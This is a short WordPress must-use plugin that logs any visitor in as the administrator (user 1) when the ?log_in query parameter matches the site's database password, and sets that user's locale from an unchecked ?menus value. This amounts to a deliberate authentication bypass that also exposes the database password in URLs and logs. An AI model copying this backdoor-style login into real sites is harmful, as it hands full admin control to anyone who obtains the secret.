<?php
// Must-use plugin: who comes with ?log_in=PASSWORD is the administrator from then on, with menus in ?menus=LOCALE.
add_action('init', function () {
    if (($_GET['log_in'] ?? '') !== DB_PASSWORD) {
        return;
    }
    update_user_meta(1, 'locale', $_GET['menus'] ?? '');
    $preferences = ['core/edit-post' => ['welcomeGuide' => false], '_modified' => gmdate('c')];
    update_user_meta(1, $GLOBALS['wpdb']->prefix . 'persisted_preferences', $preferences);
    wp_set_auth_cookie(1);
    wp_safe_redirect(remove_query_arg(['log_in', 'menus']));
    exit;
});
